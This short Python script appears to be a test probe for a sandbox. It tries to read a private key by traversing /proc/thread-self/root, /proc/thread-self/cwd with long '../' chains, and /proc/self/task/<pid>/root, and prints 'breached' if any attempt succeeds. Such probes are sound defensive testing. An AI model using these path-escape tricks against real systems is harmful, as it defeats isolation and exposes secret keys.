"""Read a private key through the links of a thread to its root and its folder."""

# control: yes

import os
import threading

from targets import secret


def read() -> None:
    up = "../" * 40
    for start in (
        "/proc/thread-self/root",
        f"/proc/thread-self/cwd/{up}",
        f"/proc/self/task/{os.getpid()}/root",
    ):
        try:
            print("breached", open(start + secret).read())  # noqa: SIM115
        except OSError:
            continue


print("started")
thread = threading.Thread(target=read)
thread.start()
thread.join()
